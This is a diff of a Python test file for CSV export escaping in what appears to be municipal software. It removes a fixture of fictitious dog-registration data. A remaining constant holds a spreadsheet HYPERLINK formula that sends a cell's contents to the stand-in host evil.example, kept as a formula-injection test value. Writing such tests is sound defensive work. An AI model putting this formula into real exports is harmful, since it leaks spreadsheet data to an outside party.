@@ -12,20 +12,6 @@ from rathaus.core.exports import SafeDictWriter, csv_cell
 EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'
 
 
-@pytest.fixture
-def dog_data():
-    """A valid dog registration (as in the applications tests)."""
-    return {
-        "owner": {"given_name": "Erika", "family_name": "Mustermann", "birth_date": "1980-01-31",
-                  "address": {"street": "Hauptstraße", "house_number": "12a", "postal_code": "99999", "city": "Musterstadt"},
-                  "email": "erika@example.org"},
-        "dog": {"name": "Bello", "breed": "labrador", "birth_date": "2024-05-01", "sex": "maennlich",
-                "chip_number": "276098106123456", "kept_since": "2026-11-01", "other_dogs": 0},
-        "reduction": {"exemption": "keine"},
-        "declaration": {"truthful": True, "privacy": True},
-    }
-
-
 @pytest.mark.parametrize("value", ["=1+1", "+49 170 123", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
 def test_text_that_could_start_a_formula_gets_a_leading_quote(value):
     assert csv_cell(value) == "'" + value
